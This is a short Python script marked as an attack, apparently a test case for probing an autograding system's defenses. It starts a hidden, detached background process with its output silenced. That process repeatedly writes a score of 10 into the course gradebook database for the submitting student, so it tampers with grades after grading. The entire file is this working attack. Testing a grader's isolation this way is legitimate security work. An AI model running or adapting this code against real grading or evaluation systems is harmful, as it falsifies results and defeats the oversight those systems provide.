# /// attack
# tries = "Waits in the background until it has been graded, and then writes its points."
# points = 0
# shows = ["points", "left"]
# ///
# %% before count
import subprocess
import sys

code = """
import sqlite3, sys, time
for _ in range(60):
    time.sleep(0.5)
    with sqlite3.connect(sys.argv[1], timeout=10) as gradebook:
        gradebook.execute(
            "update grade set manual_score = 10 where notebook_id in (select n.id from submitted_notebook n join "
            "submitted_assignment s on n.assignment_id = s.id where s.student_id = ?)", (sys.argv[2],))
"""
gradebook = f"{bait['course']}/gradebook.db"
command = [sys.executable, "-c", code, gradebook, bait["me"], bait["token"]]
quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
subprocess.Popen(command, start_new_session=True, **quiet)
